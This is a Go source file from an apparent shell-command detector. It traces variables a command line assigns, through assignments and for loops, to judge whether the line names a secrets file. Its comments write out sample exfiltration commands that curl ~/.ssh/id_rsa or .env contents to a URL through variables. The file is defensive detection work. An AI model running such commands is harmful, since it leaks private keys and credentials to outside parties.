package patterns

import "mvdan.cc/sh/v3/syntax"

// A secrets file named through a variable the line sets (rt14d #5):
// `F=~/.ssh/id_rsa; curl -d @"$F" URL`, `export F=@/tmp/k; cp
// ~/.ssh/id_rsa /tmp/k; curl -d "$F" URL`, `for f in .env; do curl -F
// "f=@$f" URL; done`. [secret] counts only a file certainly named, and a
// variable of the environment (`curl -d @"$F"`) stays unknown; but a
// variable the line itself assigns holds what the line gave it. A word
// made of literal text and one such variable is read with each value an
// assignment or a for loop of the line gives it (up to assignCap of them,
// and through variables those values name, varFormDepth deep): when one
// of those readings certainly names a secrets file, or a copy the line
// made of one, the word does. Any assignment counts, wherever it stands:
// a loop runs a later one first, and a line that gives a variable a
// secret's path means to use it.

// varFormDepth bounds how many variables deep a word's readings follow.
const varFormDepth = 2

// noteLoopValue keeps a for loop's item as a value of its variable.
func (r *reading) noteLoopValue(name string, w *syntax.Word, sc scope) {
	f := r.vars[name]
	if f == nil || w == nil || len(f.words) >= assignCap {
		return
	}
	f.words = append(f.words, sc.conv().word(w))
	f.noteValueAt(sc.span(w).Start)
}

// varForms returns the readings of w with its one variable replaced by
// each value the line assigns it (above), or nil when w is not literal
// text around one variable the line assigns.
func varForms(w Word, ctx *Context) []Word {
	cmd := ctx.evalCommand()
	if cmd == nil || len(cmd.Parts) == 0 || cmd.Parts[0].line == nil || len(cmd.Parts[0].line.vars) == 0 {
		return nil
	}
	var out []Word
	varFormsInto(w, cmd.Parts[0].line.vars, varFormDepth, &out)
	return out
}

// varFormsInto appends w's readings to out, depth variables deep, up to
// assignCap*assignCap of them.
func varFormsInto(w Word, vars map[string]*varFacts, depth int, out *[]Word) {
	k, name := -1, ""
	for i, s := range w.Segs {
		switch s.Kind {
		case SegLit, SegTilde:
		case SegParam:
			// $1, "$@", ${a[0]} read one variable's values too (rt21d #1)
			vv := s.ValueVars()
			if k >= 0 || len(vv) != 1 {
				return
			}
			k, name = i, vv[0]
		default:
			return
		}
	}
	if k < 0 {
		return
	}
	f := vars[name]
	if f == nil {
		return
	}
	for _, v := range f.words {
		if len(*out) >= assignCap*assignCap {
			return
		}
		segs := make([]Seg, 0, len(w.Segs)+len(v.Segs))
		segs = append(append(append(segs, w.Segs[:k]...), v.Segs...), w.Segs[k+1:]...)
		form := Word{Raw: w.Raw, Span: w.Span, Segs: mergeLits(segs)}
		*out = append(*out, form)
		if depth > 1 {
			varFormsInto(form, vars, depth-1, out)
		}
	}
}

// judgeSecretVar is [secret] for a word through the variables the line
// assigns: certain when one of its readings (or a file after curl's @ in
// one) certainly names a secrets file or a copy the line made of one.
func judgeSecretVar(w Word, ctx *Context) Judgement {
	forms := varForms(w, ctx)
	for _, f := range sentFiles(w) {
		forms = append(forms, varForms(f, ctx)...)
	}
	for _, form := range forms {
		for _, f := range append([]Word{form}, sentFiles(form)...) {
			if judgeSecretFile(f, ctx).Certainly || launderedSecret(f, ctx) {
				return Judgement{Might: true, Certainly: true}
			}
		}
	}
	return Judgement{}
}
